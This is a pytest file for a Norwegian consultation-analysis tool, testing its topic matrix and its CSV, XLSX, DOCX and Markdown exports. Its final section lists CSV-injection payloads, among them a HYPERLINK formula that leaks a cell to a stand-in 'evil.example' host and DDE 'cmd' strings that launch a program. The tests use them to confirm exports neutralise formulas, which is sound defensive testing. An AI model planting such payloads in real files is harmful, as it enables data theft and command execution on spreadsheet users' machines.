"""The matrix layout (rag.matrix) and the downloads (rag.export) on hand-made decisions.

The quotes hold the awkward cases: Norwegian letters, a leading «=» (a formula in a
spreadsheet), Markdown and HTML characters, a line break and a control character.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from docx import Document as open_docx
from openpyxl import load_workbook

from rag.contract import count_line, type_plural
from rag.csv_cells import FORMULA_START, cell_text
from rag.errors import TopicsFileError
from rag.export import (
    ANSWER_COLUMNS,
    MATRIX_COLUMNS,
    export_answer,
    export_matrix,
    file_name,
    md_literal,
)
from rag.matrix import matrix_of, read_topics, run_matrix, topic_question
from rag.types import NO_FILTERS, Answer, Citation, Document, Filters, SubmitterDecision

TEXTS = {
    "a": "Innledning.\n=SUM(A1) er ikke en formel, men tekst om fastlegeordningen i Ålesund.\n"
    "Legevakten *må* styrkes <b>nå</b> [1]\nog på natta.\n",
    "b": "Helsefellesskapet mener at økt rekruttering er viktig\x0b for små kommuner.\n",
    "c": "Stange kommune skriver om noe helt annet: vann og avløp.\n",
}
DOCS = {
    "a": Document("a", "a.txt", "Ålesund kommune", "kommune", "A", TEXTS["a"], "h"),
    "b": Document("b", "b.pdf", "Helsefellesskapet Møre", "helsefellesskap", "B", TEXTS["b"], "h"),
    "c": Document("c", "c.txt", "Stange kommune", "kommune", "C", TEXTS["c"], "h"),
}


def cite(doc_id: str, phrase: str, n: int = 1, section: str | None = "Del 1") -> Citation:
    doc = DOCS[doc_id]
    start = doc.text.index(phrase)
    page = 2 if doc_id == "b" else None
    return Citation(
        n, doc_id, doc.source, doc.submitter, doc.submitter_type, section, page,
        phrase, start, start + len(phrase), 1.5,
    )  # fmt: skip


QUOTE_A = "=SUM(A1) er ikke en formel, men tekst om fastlegeordningen i Ålesund."
QUOTE_A2 = "Legevakten *må* styrkes <b>nå</b> [1]\nog på natta."
QUOTE_B = "Helsefellesskapet mener at økt rekruttering er viktig\x0b for små kommuner."


def decisions_for(topic: str) -> list[SubmitterDecision]:
    if topic == "fastlegeordningen":
        return [
            SubmitterDecision(DOCS["a"], "high", (cite("a", QUOTE_A), cite("a", QUOTE_A2, 2)), 0.9),
            SubmitterDecision(DOCS["b"], "low", (cite("b", QUOTE_B),), 0.85),
            SubmitterDecision(DOCS["c"], "none", (), 0.8),
        ]
    return [SubmitterDecision(DOCS[d], "none", (), 0.7) for d in "abc"]


TOPICS = ("fastlegeordningen", "tannhelse")


@pytest.fixture
def matrix():  # type: ignore[no-untyped-def]
    return matrix_of(TOPICS, [decisions_for(t) for t in TOPICS])


@pytest.fixture
def answer() -> Answer:
    citations = (cite("a", QUOTE_A), cite("a", QUOTE_A2, 2), cite("b", QUOTE_B, 3))
    return Answer(
        "Hva sier de om fastleger?", "2 av 3 innspill omtaler fastleger.", False, citations
    )


def test_matrix_has_one_cell_per_topic_and_submitter_grouped_by_type(matrix) -> None:  # type: ignore[no-untyped-def]
    assert [d.document_id for d in matrix.submitters] == ["c", "a", "b"]  # kommune (2) first
    assert {(c.topic, c.document.document_id) for c in matrix.cells} == {
        (t, d) for t in TOPICS for d in "abc"
    }
    cell = matrix.cell("fastlegeordningen", "a")
    assert cell.mentioned and cell.quote is not None and cell.quote.quote == QUOTE_A  # best first
    assert matrix.cell("fastlegeordningen", "b").confidence == "low"
    assert not matrix.cell("fastlegeordningen", "c").mentioned
    assert matrix.cell("fastlegeordningen", "c").quote is None


def test_counts_per_topic_and_type_add_up(matrix) -> None:  # type: ignore[no-untyped-def]
    counts = {(c.topic, c.submitter_type): (c.mentioned, c.total) for c in matrix.counts}
    assert counts == {
        ("fastlegeordningen", "kommune"): (1, 2),
        ("fastlegeordningen", "helsefellesskap"): (1, 1),
        ("tannhelse", "kommune"): (0, 2),
        ("tannhelse", "helsefellesskap"): (0, 1),
    }
    assert (
        count_line(matrix.counts, "fastlegeordningen") == "1 av 2 kommuner, 1 av 1 helsefellesskap"
    )


def test_run_matrix_asks_every_topic_as_one_batch_of_questions() -> None:
    calls: list[tuple[list[str], Filters]] = []

    def decide_many(questions, filters):  # type: ignore[no-untyped-def]
        calls.append((list(questions), filters))
        return [decisions_for(t) for t in TOPICS]

    result = run_matrix(decide_many, TOPICS, NO_FILTERS)
    assert calls == [([topic_question(t) for t in TOPICS], NO_FILTERS)]
    assert topic_question("legevakt") == "Hva sier innspillene om legevakt?"
    assert set(result.timings_ms) == {"decide", "matrix", "total"}


def test_read_topics_skips_comments_blank_lines_and_repeats(tmp_path: Path) -> None:
    path = tmp_path / "topics.txt"
    path.write_text("# kommentar\n\n legevakt \nbarn og unge\nlegevakt\n", encoding="utf-8")
    assert read_topics(path) == ["legevakt", "barn og unge"]
    path.write_text("# bare kommentarer\n", encoding="utf-8")
    with pytest.raises(TopicsFileError):
        read_topics(path)
    with pytest.raises(TopicsFileError):
        read_topics(tmp_path / "mangler.txt")


def test_default_topics_file_lists_the_plans_themes() -> None:
    topics = read_topics(Path(__file__).resolve().parents[2] / "topics.txt")
    assert {"fastlegeordningen", "legevakt", "helsefellesskapene"} <= set(topics)
    assert 10 <= len(topics) <= 30 and all(1 <= len(t) <= 200 for t in topics)


# --- CSV -------------------------------------------------------------------------------------


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())  # BOM: Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_answer_csv_keeps_quotes_submitters_and_offsets_exactly(answer: Answer) -> None:
    rows = read_csv(export_answer(answer, "csv"))
    assert list(rows[0]) == list(ANSWER_COLUMNS)
    assert rows[0]["sitat"] == "'" + QUOTE_A  # «=SUM(A1)…» is text, not a formula
    for row, c in zip(rows, answer.citations, strict=True):
        assert (
            cell_text(row["sitat"])
            == c.quote
            == DOCS[c.document_id].text[int(row["start"]) : int(row["slutt"])]
        )
        assert (row["innsender"], row["type"], row["dokument"]) == (
            c.submitter,
            c.submitter_type,
            c.document_id,
        )
        assert row["seksjon"] == (c.section or "") and row["side"] == (
            str(c.page) if c.page else ""
        )


def test_matrix_csv_has_a_row_per_cell(matrix) -> None:  # type: ignore[no-untyped-def]
    rows = read_csv(export_matrix(matrix, "csv"))
    assert list(rows[0]) == list(MATRIX_COLUMNS)
    assert len(rows) == len(matrix.cells)
    by_key = {(r["tema"], r["dokument"]): r for r in rows}
    assert by_key[("fastlegeordningen", "a")]["sitat"] == "'" + QUOTE_A
    assert by_key[("fastlegeordningen", "a")]["innsender"] == "Ålesund kommune"
    assert by_key[("fastlegeordningen", "c")]["omtalt"] == "nei"
    assert by_key[("fastlegeordningen", "c")]["sitat"] == ""


# --- XLSX ------------------------------------------------------------------------------------


def test_answer_xlsx_stores_quotes_as_text(answer: Answer) -> None:
    sheet = load_workbook(io.BytesIO(export_answer(answer, "xlsx")))["Sitater"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ANSWER_COLUMNS
    header = {name: i for i, name in enumerate(rows[0])}
    for row, c in zip(rows[1:], answer.citations, strict=True):
        expected = c.quote.replace("\x0b", "\ufffd")  # the one character XML cannot hold
        assert row[header["sitat"]] == expected
        assert (row[header["start"]], row[header["slutt"]]) == (c.start, c.end)
        assert row[header["innsender"]] == c.submitter
    formula_cell = sheet.cell(row=2, column=header["sitat"] + 1)
    assert formula_cell.data_type == "s"  # «=SUM(A1) …» is text, not a formula


def test_matrix_xlsx_has_grid_quotes_and_counts(matrix) -> None:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(export_matrix(matrix, "xlsx")))
    assert book.sheetnames == ["Oversikt", "Sitater", "Antall"]
    grid = list(book["Oversikt"].iter_rows(values_only=True))
    assert grid[0] == ("innsender", "type", *TOPICS)
    assert grid[1][:3] == ("Stange kommune", "kommune", None)
    assert grid[2][:3] == ("Ålesund kommune", "kommune", "●")
    assert grid[3][:3] == ("Helsefellesskapet Møre", "helsefellesskap", "◐")
    quotes = [r for r in book["Sitater"].iter_rows(values_only=True) if r[0] == "fastlegeordningen"]
    assert quotes[1][MATRIX_COLUMNS.index("sitat")] == QUOTE_A


# --- DOCX ------------------------------------------------------------------------------------


def test_answer_docx_is_a_report_with_block_quotes_and_sources(answer: Answer) -> None:
    doc = open_docx(io.BytesIO(export_answer(answer, "docx")))
    styles = [(p.style.name, p.text) for p in doc.paragraphs]
    assert ("Heading 1", answer.question) in styles
    assert ("Heading 2", "Ålesund kommune (kommune)") in styles
    quotes = [text for style, text in styles if style == "Quote"]
    assert quotes == [QUOTE_A, QUOTE_A2, QUOTE_B.replace("\x0b", "\ufffd")]
    sources = [text for style, text in styles if style == "List Number"]
    assert len(sources) == 3
    first = answer.citations[0]
    assert f"tegn {first.start}–{first.end}" in sources[0] and "Ålesund kommune" in sources[0]
    assert any("side 2" in s for s in sources)


def test_matrix_docx_has_a_heading_per_topic_and_names_the_silent(matrix) -> None:  # type: ignore[no-untyped-def]
    doc = open_docx(io.BytesIO(export_matrix(matrix, "docx")))
    styles = [(p.style.name, p.text) for p in doc.paragraphs]
    assert [t for s, t in styles if s == "Heading 1"] == [*TOPICS, "Kilder"]
    assert next(t for s, t in styles if s == "Quote") == QUOTE_A
    assert "Omtaler ikke temaet: Stange kommune." in [t for _, t in styles]
    assert "Helsefellesskapet Møre (helsefellesskap) – usikker" in [t for _, t in styles]


# --- Markdown --------------------------------------------------------------------------------


def test_markdown_escapes_document_text(answer: Answer) -> None:
    text = export_answer(answer, "md").decode("utf-8")
    assert "<b>" not in text and "\\<b\\>" in text
    assert "\\*må\\*" in text and "\\[1\\]" in text
    assert "> Legevakten" in text and "> og på natta." in text  # a line break stays in the quote
    assert md_literal("- punkt\n1. ledd") == "\\- punkt\n1\\. ledd"


def test_file_names_are_ascii_slugs() -> None:
    assert file_name("svar", "Hva sier kommunene om fastlegeordningen?", "docx") == (
        "svar-hva-sier-kommunene-om-fastlegeordningen.docx"
    )
    assert file_name("oversikt", "Ære, søl og små å", "csv") == "oversikt-aere-sol-og-sma-a.csv"
    assert file_name("svar", "«»", "md") == "svar.md"
    assert (
        type_plural("kommune", 2) == "kommuner"
        and type_plural("helsefellesskap", 2) == "helsefellesskap"
    )


# --- formulas in CSV (OWASP CSV injection) ---------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1;"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already marked: written «''=1+1» so that it reads back as it was
)


def hostile_document(n: int, formula: str) -> Document:
    text = f"{formula} er sitert.\n"
    return Document(f"d{n}", f"{formula}.txt", formula, formula, formula, text, "h")


def hostile_citation(n: int, doc: Document) -> Citation:
    quote = doc.text.rstrip("\n")
    return Citation(n, doc.document_id, doc.source, doc.submitter, doc.submitter_type,
                    doc.submitter, None, quote, 0, len(quote), 0.9)  # fmt: skip


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_START)), row


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_of_an_answer_or_a_matrix_starts_a_formula(formula: str) -> None:
    doc = hostile_document(1, formula)
    citation = hostile_citation(1, doc)
    answer = Answer(formula, "1 av 1 innspill omtaler dette.", False, (citation,))
    decision = SubmitterDecision(doc, "high", (citation,), 0.9)
    matrix = matrix_of((formula,), [[decision]])
    for data in (export_answer(answer, "csv"), export_matrix(matrix, "csv")):
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert_no_formula(table)
        values = {cell_text(cell) for row in table[1:] for cell in row}
        assert {formula, citation.quote} <= values  # readable: the text, after one apostrophe
